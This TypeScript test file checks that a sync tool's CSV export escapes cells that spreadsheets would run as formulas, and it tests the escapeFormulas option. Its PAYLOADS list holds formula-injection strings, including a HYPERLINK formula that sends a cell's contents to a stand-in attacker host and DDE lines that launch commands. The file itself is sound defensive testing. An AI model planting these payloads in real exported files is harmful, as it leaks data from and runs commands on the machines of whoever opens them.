import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ConfigError } from "../../src/errors/index.ts";
import { createSink, parseWarehouseUrl, type Sink } from "../../src/sinks/index.ts";
import { WIDGETS, widget } from "./sink-contract.ts";

/** Cells that Excel, LibreOffice or Google Sheets would run as formulas. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd@example.com",
  "\t=1+1",
  "\r=1+1",
  "\uff1d1+1",
  "-5",
];

let dir: string;
let sink: Sink | undefined;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), "recruit-sync-formulas-"));
});
afterEach(async () => {
  await sink?.close();
  sink = undefined;
  await rm(dir, { recursive: true, force: true });
});

async function partFiles(): Promise<{ csv: string[][]; ndjson: Record<string, unknown>[] }> {
  const files = (await readdir(dir, { recursive: true })).map(String).sort();
  const csvFile = files.find((f) => f.endsWith(".csv")) as string;
  const ndjsonFile = files.find((f) => f.endsWith(".ndjson") && !f.startsWith("_")) as string;
  const csv = parse(await readFile(join(dir, csvFile)), { relax_column_count: true }) as string[][];
  const ndjson = (await readFile(join(dir, ndjsonFile), "utf8"))
    .trim()
    .split("\n")
    .map((l) => JSON.parse(l) as Record<string, unknown>);
  return { csv, ndjson };
}

/** One widget per payload, in `status` (text) and `tags` (array), with a negative amount. */
async function commitPayloads(url: string): Promise<void> {
  sink = await createSink(url);
  await sink.prepare([WIDGETS]);
  const rows = PAYLOADS.map((p, i) =>
    widget(`w${i}`, { status: p, amount_cents: -5 - i, ratio: -0.25, tags: [p], note: p }),
  );
  await sink.commit({ runId: "r1", upsert: { table: "widgets", rows } });
}

describe("file sink CSV parts and formulas", () => {
  it("escapes every cell a spreadsheet would run as a formula in the CSV, leaves numbers and the NDJSON alone", async () => {
    await commitPayloads(`file:${dir}`);
    const { csv, ndjson } = await partFiles();
    expect(ndjson.map((r) => r.status)).toEqual(PAYLOADS);
    expect(ndjson.map((r) => r.note)).toEqual(PAYLOADS);
    const table = await (sink as Sink).readTable("widgets");
    expect(table.map((r) => r.status).sort()).toEqual([...PAYLOADS].sort());
    const header = csv[0] as string[];
    const col = (name: string) => header.indexOf(name);
    for (const [i, payload] of PAYLOADS.entries()) {
      const cells = csv[i + 1] as string[];
      expect(cells[col("widget_id")]).toBe(`w${i}`);
      expect(cells[col("status")]).toBe(`'${payload}`);
      // A JSON column holding a string is written as the string: escaped too.
      expect(cells[col("note")]).toBe(`'${payload}`);
      // Arrays are JSON text starting with "[": nothing to run.
      expect(cells[col("tags")]).toBe(JSON.stringify([payload]));
      // Numbers stay numbers: a negative amount is not a formula.
      expect(cells[col("amount_cents")]).toBe(String(-5 - i));
      expect(cells[col("ratio")]).toBe("-0.25");
    }
  });

  it("escapes the same cells as csv-stringify's escape_formulas, which writes the rejects file", async () => {
    await commitPayloads(`file:${dir}`);
    const { csv } = await partFiles();
    const header = csv[0] as string[];
    const byLibrary = parse(
      stringify(
        PAYLOADS.map((p, i) => [p, -5 - i]),
        { escape_formulas: true },
      ),
    ) as string[][];
    const ours = csv
      .slice(1)
      .map((cells) => [cells[header.indexOf("status")], cells[header.indexOf("amount_cents")]]);
    expect(ours).toEqual(byLibrary);
  });

  it("writes cells verbatim with escapeFormulas=false in the warehouse URL", async () => {
    await commitPayloads(`file:${dir}?escapeFormulas=false`);
    expect((sink as Sink).displayUrl).toBe(`file:${dir}?escapeFormulas=false`);
    const { csv } = await partFiles();
    const status = (csv[0] as string[]).indexOf("status");
    expect(csv.slice(1).map((c) => c[status])).toEqual(PAYLOADS);
  });

  it("refuses an unknown option or a value other than true or false in a file: URL", () => {
    expect(parseWarehouseUrl("file:./lake")).toEqual({
      kind: "file",
      dir: "./lake",
      options: { escapeFormulas: true },
    });
    expect(() => parseWarehouseUrl("file:./lake?escapeFormulas=no")).toThrowError(ConfigError);
    expect(() => parseWarehouseUrl("file:./lake?escapeFormulas=no")).toThrowError(
      'warehouse URL "file:./lake?escapeFormulas=no": warehouse.escapeFormulas: expected true or false',
    );
    expect(() => parseWarehouseUrl("file:./lake?escape=false")).toThrowError(
      "unknown option escape: a file: URL takes escapeFormulas=true|false",
    );
  });
});
